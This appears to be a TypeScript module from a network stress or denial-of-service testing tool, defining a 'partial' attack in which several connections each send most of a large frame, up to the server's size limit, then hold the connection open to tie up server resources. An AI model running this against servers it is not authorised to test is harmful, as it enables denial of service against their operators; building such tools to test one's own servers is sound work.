import type { Attack } from '../attack.js';
import { AttackConnections } from '../connections.js';
import { partialFrame } from '../frames.js';

export interface PartialOptions {
  /** Connections each holding a partial frame. Default 8. */
  readonly connections?: number;
  /** Size of the frame each sends all but the end of (at most the server's limit). Default 16 MiB. */
  readonly frameBytes?: number;
}

/** Connections that each send a large frame, all but its end, as fast as they can, and wait. */
export function partial(options: PartialOptions = {}): Attack {
  const { connections = 8, frameBytes = 16 * 1024 * 1024 } = options;
  return {
    name: 'partial',
    description: `${connections} connections each send a frame of up to ${frameBytes} B (the server's limit at most) but its end, and wait`,
    needsFrameBoundaries: true,
    holdsConnection: true,
    start(target) {
      const attack = new AttackConnections(target.host, target.port);
      const frame = partialFrame(target.codec, frameBytes, target.maxFrameBytes);
      for (let index = 0; index < connections; index++) {
        attack.connect((socket) => attack.stream(socket, frame));
      }
      return { figures: () => attack.figures(), stop: () => attack.stop() };
    },
  };
}
